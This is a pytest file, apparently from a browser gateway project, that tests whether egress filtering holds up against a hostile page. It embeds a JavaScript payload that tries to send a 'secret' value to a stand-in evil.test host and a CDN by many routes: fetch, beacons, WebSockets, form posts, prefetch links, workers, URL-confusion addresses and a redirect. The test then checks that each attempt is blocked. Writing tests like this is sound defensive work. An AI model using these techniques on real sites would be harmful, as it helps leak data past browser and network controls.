"""A hostile page, whose site may load parts from one host, tries every way to send more than that."""

from __future__ import annotations

import asyncio
import ssl
from collections.abc import Iterator, Sequence

import pytest
from playwright.async_api import Page

from pytest_webarena.gateway.authority import Authority
from pytest_webarena.gateway.egress import trust_arguments
from pytest_webarena.gateway.session import GatewaySession
from pytest_webarena.live.host_lists import HostLists
from pytest_webarena.live.other_hosts import LoadNetwork, NamedHosts
from tests.browser.gateway_lab import Lab, Site, with_page

HOSTILE = """async ([cdn, evil]) => {
    const add = (tag, given) => document.body.appendChild(Object.assign(document.createElement(tag), given));
    const post = {method: 'POST', body: 'secret', mode: 'no-cors'};
    const asked = [];
    for (const host of [cdn, evil]) {
        asked.push(fetch(`${host}/post`, post), fetch(`${host}/put`, {method: 'PUT', body: 'secret'}));
        asked.push(fetch(`${host}/head`, {method: 'HEAD', mode: 'no-cors'}));
        asked.push(fetch(`${host}/graphql?query=mutation%7Bbuy%7D`, {mode: 'no-cors'}));
        navigator.sendBeacon(`${host}/beacon`, 'secret');
        new WebSocket(`${host.replace('https', 'wss')}/socket`);
        window.open(`${host}/opened`);
        const frame = add('iframe', {name: `frame${asked.length}`});
        const form = add('form', {method: 'post', action: `${host}/form`, target: frame.name});
        form.submit();
        add('script', {type: 'speculationrules', textContent: JSON.stringify(
            {prerender: [{urls: [`${host}/prerendered`]}], prefetch: [{urls: [`${host}/prefetched`]}]})});
        const link = add('a', {href: '#', ping: `${host}/ping`});
        link.click();
    }
    for (const rel of ['prefetch', 'preconnect', 'dns-prefetch', 'modulepreload', 'preload', 'stylesheet', 'manifest'])
        add('link', {rel, href: `${evil}/${rel}`, as: 'script'});
    for (const address of [evil, evil.replace('//', '//cdn.test@'), evil.replace('evil', 'sub.cdn'),
                           cdn.replace('cdn.test', 'cdn.test.'), cdn.replace(/:[0-9]+$/, ''), 'https://127.0.0.1:1',
                           cdn.replace('https', 'http'), evil.replace('evil.test', '127.0.0.1')]) {
        add('img', {src: `${address}/picture`});
        add('iframe', {src: `${address}/frame`});
        asked.push(fetch(`${address}/fetched`, {mode: 'no-cors', credentials: 'include'}));
    }
    add('script', {src: `${cdn}/sent-on.js`});
    const program = `fetch('${evil}/worker', {mode: 'no-cors'}); importScripts('${evil}/imported.js')`;
    new Worker(URL.createObjectURL(new Blob([program])));
    asked.push(navigator.serviceWorker.register('/worker.js'));
    asked.push(fetch(`${cdn}/part.js`, {mode: 'no-cors', credentials: 'include'}));
    await Promise.allSettled(asked);
}"""


@pytest.fixture(scope="module")
def authority() -> Authority:
    return Authority()


@pytest.fixture(scope="module")
def lab(browser_executable: str | None, authority: Authority) -> Iterator[Lab]:
    lab = Lab(browser_executable, authority)
    lab.run(lab.start(*trust_arguments(authority.spki)))
    yield lab
    lab.close()


class Cdn(Site):
    """Sends one script on to another host."""

    evil = ""

    async def answer(self, path: str, size: int, writer: asyncio.StreamWriter) -> None:
        if path == "/sent-on.js":
            writer.write(f"HTTP/1.1 302 Found\r\nLocation: {self.evil}/stolen.js\r\nContent-Length: 0\r\n\r\n".encode())
        else:
            await super().answer(path, size, writer)


def test_hostile_page_sends_only_parts_to_the_named_host(
    lab: Lab, authority: Authority, monkeypatch: pytest.MonkeyPatch
) -> None:
    trusting = ssl.create_default_context(cadata=authority.certificate)
    monkeypatch.setattr("pytest_webarena.live.other_hosts.client_tls", lambda *_: trusting)

    async def find(host: str, port: int) -> Sequence[str]:
        return ["127.0.0.1"]

    async def test(page: Page, session: GatewaySession, site: Site) -> None:
        session.route("homepage.test", "127.0.0.1", site.port, port=443, read=True)
        cdn, evil = Cdn(), Site()
        servers = [
            await asyncio.start_server(other.handle, "127.0.0.1", 0, ssl=authority.context(host))
            for host, other in (("cdn.test", cdn), ("evil.test", evil))
        ]
        urls = [
            f"https://{host}:{server.sockets[0].getsockname()[1]}"
            for host, server in zip(("cdn.test", "evil.test"), servers, strict=True)
        ]
        cdn.evil = urls[1]
        lists = HostLists.of([urls[0]], [], ["cdn.test"])
        session.admit_hosts(NamedHosts(lists, LoadNetwork(find=find, closed=lambda _: ""), read=True))
        await page.context.add_cookies([{"name": "id", "value": "secret", "domain": "cdn.test", "path": "/"}])
        await page.goto("https://homepage.test/")
        await page.evaluate(HOSTILE, urls)
        await page.wait_for_timeout(500)
        await page.goto(f"{urls[0]}/navigated", wait_until="commit")
        assert "only serves parts" in await page.content()
        await page.goto("about:blank")
        lines = {head.split("\r\n")[0] for head in cdn.heads}
        assert {line.split(" ")[0] for line in lines} == {"GET"}
        assert "GET /part.js HTTP/1.1" in lines
        assert not lines & {
            f"GET /{path} HTTP/1.1" for path in ("opened", "prerendered", "navigated", "socket", "form")
        }
        assert not any("secret" in head for head in cdn.heads)
        assert evil.connections == 0
        refused = {record.url for record in session.requests() if record.refused}
        assert f"{urls[0]}/post" in refused
        for server in servers:
            server.close()

    with_page(lab, test)
